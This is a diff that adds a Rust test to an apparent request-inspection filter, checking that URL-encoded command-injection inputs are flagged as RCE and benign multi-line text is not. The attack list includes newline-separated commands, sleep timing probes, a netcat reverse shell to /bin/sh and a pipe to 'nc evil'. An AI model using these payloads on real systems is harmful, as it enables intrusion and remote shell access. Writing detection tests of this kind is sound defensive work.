@@ -435,3 +435,36 @@ fn every_multipart_kind_and_nested_parts_are_inspected() {
     let r = post("multipart/mixed; boundary=b1", benign.as_bytes());
     assert!(!r.exceeded, "{r:?}");
 }
+
+/// A line break ends a shell command as `;` does (the ping-form injection), `sleep` probes
+/// and `nc HOST PORT` are command injection; Markdown code fences and prose over several
+/// lines are not.
+#[test]
+fn line_breaks_sleep_and_netcat_are_command_separators() {
+    for attack in [
+        "/ping?host=127.0.0.1%0aid",
+        "/ping?host=127.0.0.1%0d%0aid",
+        "/a?c=x%0anc%20-e%20/bin/sh%201.2.3.4%2080",
+        "/a?c=x%0a%09bash%20-i",
+        "/a?c=x%3Bsleep%205",
+        "/a?c=x%7Csleep%205",
+        "/a?c=x%20%26%26%20sleep%205",
+        "/a?c=x%3Bsleep%24%7BIFS%7D5",
+        "/a?c=x%20%7C%20nc%20evil%2080",
+    ] {
+        let r = get(attack);
+        assert!(
+            r.exceeded && r.findings.iter().any(|f| f.category == "rce"),
+            "{attack}: {r:?}"
+        );
+    }
+    for benign in [
+        "/a?notes=%23+Release+notes%0A%0A%60%60%60bash%0Acargo+build+--release%0A%60%60%60",
+        "/a?text=Dear+team%2C%0Aid+like+to+know+more.%0AThanks",
+        "/a?text=Shopping+list%3A%0Acat+food%0Atea",
+        "/a?text=Let+it+sleep+for+a+while",
+    ] {
+        let r = get(benign);
+        assert!(!r.exceeded, "{benign}: {r:?}");
+    }
+}
